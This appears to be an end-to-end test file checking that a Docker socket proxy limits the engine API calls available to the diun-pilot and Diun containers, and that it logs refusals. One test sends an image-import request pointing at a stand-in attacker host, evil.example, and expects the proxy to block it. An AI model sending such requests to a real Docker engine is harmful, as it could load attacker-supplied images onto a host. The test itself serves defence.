import { openStage } from '../support/e2e-stage';
import { openStack, type Stack } from '../support/e2e-stack';
import { eventually } from '../support/eventually';

const stage = openStage();

describe('with docker-compose.socket-proxy.yml', () => {
  let guarded: Stack;

  beforeAll(async () => {
    guarded = await openStack(stage.lab, { also: ['docker-compose.socket-proxy.yml'] });
    stage.closing(() => guarded.remove());
    const services = ['socket-proxy', 'socket-proxy-watch', 'diun-pilot', 'diun'];
    await guarded.composed('up', '--detach', '--no-deps', ...services);
  });

  /** What diun-pilot's own container gets for such requests. */
  async function statuses(...asked: [method: string, port: number, path: string][]): Promise<number[]> {
    const script = `Promise.all(${JSON.stringify(asked)}.map(([method, port, path]) => fetch('http://socket-proxy:' + port + path, { method }).then((r) => r.status))).then((all) => process.stdout.write(JSON.stringify(all), () => process.exit()))`;
    return JSON.parse(await guarded.composed('exec', '-T', 'diun-pilot', 'node', '-e', script)) as number[];
  }

  it('diun-pilot has no socket, and works', async () => {
    const health = async () => {
      const answer = await fetch(`http://127.0.0.1:${guarded.ports.operator}/health`);
      return ((await answer.json()) as { checks: { docker: { status: string } } }).checks.docker.status === 'ok';
    };
    await eventually('it reaches the engine', health);
    const isThere = "process.exit(fs.statSync('/var/run/docker.sock', { throwIfNoEntry: false })?.isSocket() ? 0 : 1)";
    expect((await guarded.compose(['exec', '-T', 'diun-pilot', 'node', '-e', isThere])).code).toBe(1);
    expect(await guarded.composed('exec', '-T', 'diun-pilot', 'diun-pilot', 'check')).toMatch(/ok +Docker +Engine \d/);
  });

  it('what is not listed is refused, and written down', async () => {
    const list = '/v1.45/containers/json';
    const imported = '/v1.45/images/create?fromSrc=http://evil.example/root.tar&repo=lab/imported';
    expect(await statuses(['GET', 2375, list], ['GET', 2375, '/v1.45/volumes'], ['POST', 2375, imported])).toEqual([
      200, 403, 403,
    ]);
    const logged = await guarded.composed('logs', '--no-log-prefix', 'socket-proxy');
    expect(logged).toContain('"message":"refused a call to the engine","method":"GET"');
    expect(logged).toContain('/v1.45/volumes');
    expect(logged).toContain('"parameters":"fromSrc, repo"');
  });

  it('Diun reads lists through its own door, and reaches the other one by no name and no address', async () => {
    const ping = (address: string) =>
      `if command -v curl >/dev/null; then curl --silent --max-time 5 --output /dev/null --write-out '%{http_code}' ${address}/_ping;` +
      `elif wget -q -T 5 -O /dev/null ${address}/_ping; then echo 200; else echo 000; fi`;
    const fromDiun = async (address: string) =>
      (await guarded.compose(['exec', '-T', 'diun', 'sh', '-c', ping(address)])).stdout.trim();
    expect(await fromDiun('http://socket-proxy-watch:2376')).toBe('200');
    const networks = (await guarded.container('socket-proxy'))['NetworkSettings'] as {
      Networks: Record<string, { IPAddress: string }>;
    };
    const addresses = Object.values(networks.Networks).map(({ IPAddress }) => IPAddress);
    expect(addresses).toHaveLength(1);
    for (const host of ['socket-proxy', 'socket-proxy-watch', ...addresses]) {
      expect(await fromDiun(`http://${host}:2375`)).toBe('000');
    }
  });
});
